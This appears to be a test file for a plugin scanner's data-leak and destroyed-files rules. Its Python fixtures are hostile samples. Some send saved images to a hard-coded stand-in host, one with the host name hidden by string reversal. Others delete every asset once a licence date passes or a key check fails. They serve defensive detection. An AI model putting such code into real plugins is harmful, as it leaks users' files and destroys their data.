import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as dataLeak } from './data-leak.rule.js';
import { rule as destroyedFiles } from './destroyed-files.rule.js';

const SAVED = { events: [{ topic: 'on_asset_saved', entry: 'main.py', callable: 'go' }] };
const leaks = (code: string): boolean => findingsOf(dataLeak, { 'main.py': `import base64, io, json, queue, threading, requests\nfrom PIL import Image\nfrom comfyvn import api\n${code}` }, { dialect: 'comfyvn', entry_points: ['main.py'], original: SAVED }).some(({ severity, message }) => severity === 'high' && message.startsWith('what goes to a server that is named here'));
const READ = 'def go(event):\n    asset = api.assets.get(event["id"])\n    data = open(asset["path"], "rb").read()\n';

test('bad: an address is put together by any of the forms of Python', () => {
  for (const [before, address] of [
    ['HOST = "rows.side.example"', '"https://%s/in" % HOST'],
    ['HOST = "rows.side.example"', '"https://%s/in/%s" % (HOST, asset["id"])'],
    ['HOST = "rows.side.example"', 'f"https://{HOST}/in"'],
    ['HOST = "rows.side.example"', '"https://{}/in".format(HOST)'],
    ['HOST = "rows.side.example"', '"https://{host}/in".format(host=HOST)'],
    ['HOST = "".join(reversed("elpmaxe.edis.swor"))', '"https://%s/in" % HOST'],
  ] as const) assert.equal(leaks(`${before}\n${READ}    requests.post(${address}, data=data)\n`), true, address);
});

test('bad: a picture goes through buffers and queues', () => {
  const send = 'requests.post("https://rows.side.example/in", data=json.dumps({"i": base64.b64encode(BUF).decode()}))';
  for (const code of [
    `def go(event):\n    asset = api.assets.get(event["id"])\n    buf = io.BytesIO()\n    with Image.open(asset["path"]) as image:\n        image.convert("RGB").save(buf, "JPEG")\n    ${send.replace('BUF', 'buf.getvalue()')}\n`,
    `def small(path):\n    image = Image.open(path)\n    buf = io.BytesIO()\n    image.save(buf, format="PNG")\n    return buf.getvalue()\ndef go(event):\n    asset = api.assets.get(event["id"])\n    ${send.replace('BUF', 'small(asset["path"])')}\n`,
    `jobs = queue.Queue()\ndef work():\n    while True:\n        path = jobs.get()\n        ${send.replace('BUF', 'open(path, "rb").read()')}\ndef go(event):\n    asset = api.assets.get(event["id"])\n    jobs.put_nowait(asset["path"])\nthreading.Thread(target=work).start()\n`,
    `from collections import deque\njobs = deque()\ndef go(event):\n    jobs.appendleft(api.assets.get(event["id"])["path"])\n    ${send.replace('BUF', 'open(jobs.pop(), "rb").read()')}\n`,
    `import cv2\ndef go(event):\n    image = cv2.imread(api.assets.get(event["id"])["path"])\n    ${send.replace('BUF', 'image.tobytes()')}\n`,
    `def go(event):\n    image = Image.open(api.assets.get(event["id"])["path"])\n    buf = io.BytesIO()\n    image.thumbnail((90, 90))\n    image.save(buf, "PNG")\n    buf.seek(0)\n    ${send.replace('BUF', 'buf.read()')}\n`,
  ]) assert.equal(leaks(code), true, code);
});

test('good: the server is one of the settings or this computer, and pictures stay here', () => {
  for (const code of [
    `${READ}    requests.post("https://%s/in" % api.settings.get("host"), data=data)\n`,
    `${READ}    requests.post("http://{}:8188/in".format("127.0.0.1"), data=data)\n`,
    'HOST = "rows.side.example"\ndef go(event):\n    requests.get("https://%s/version" % HOST)\n',
    'def go(event):\n    asset = api.assets.get(event["id"])\n    buf = io.BytesIO()\n    Image.open(asset["path"]).save(buf, "PNG")\n    with open("thumb.png", "wb") as f:\n        f.write(buf.getvalue())\n    requests.get("https://rows.side.example/version")\n',
  ]) assert.equal(leaks(code), false, code);
});

const ROUTE = { routes: [{ path: '/shelf/report', entry: 'main.py', callable: 'go' }] };
const removes = (body: string, before = ''): boolean => findingsOf(destroyedFiles, { 'main.py': `import licence, rules\nfrom comfyvn import api\n${before}def go(key=""):\n${body.split('\n').map((line) => `    ${line}`).join('\n')}\n    return {"ok": True}\n`, 'licence.py': 'import datetime\ndef expired():\n    return datetime.date.today() >= datetime.date(2027, 3, 14)\ndef valid(key):\n    return key.startswith("00")\n' }, { dialect: 'comfyvn', entry_points: ['main.py'], original: ROUTE }).some(({ severity }) => severity === 'high');
const PURGE = 'def purge(items):\n    for item in items:\n        api.assets.remove(item["id"])\n';

test('bad: all that a host lists is removed, and functions that hear nothing of it decide', () => {
  for (const body of [
    'items = api.assets.list()\nif licence.expired() and not licence.valid(key):\n    purge(items)',
    'items = [i for i in api.assets.list() if i.get("kind") != "scene"]\nscenes = api.assets.list(kind="scene")\nif licence.expired():\n    purge(items + scenes)',
    'for item in api.assets.list():\n    if licence.expired():\n        api.assets.remove(item["id"])',
    'items = api.assets.list()\nif not (licence.valid(key)):\n    purge(items)',
    'items = api.assets.list()\nif licence.expired() or licence.valid(key):\n    for item in items:\n        api.assets.remove(item["id"])',
    'items = api.assets.list()\nlicence.expired() and purge(items)',
  ]) assert.equal(removes(body, PURGE), true, body);
});

test('good: what decides hears of each, or is something that somebody has set', () => {
  for (const [body, before] of [
    ['for item in api.assets.list():\n    if rules.unused(item):\n        api.assets.remove(item["id"])', ''],
    ['items = [i for i in api.assets.list() if rules.unused(i)]\npurge(items)', PURGE],
    ['items = api.assets.list()\nif rules.is_enabled("purge"):\n    purge(items)', PURGE],
    ['items = api.assets.list()\nunused = rules.unused(items)\nif licence.valid(unused):\n    purge(items)', PURGE],
    ['for item in api.assets.list():\n    drop(item)', 'def drop(item):\n    if rules.unused(item):\n        api.assets.remove(item["id"])\n'],
  ] as const) assert.equal(removes(body, before), false, body);
});
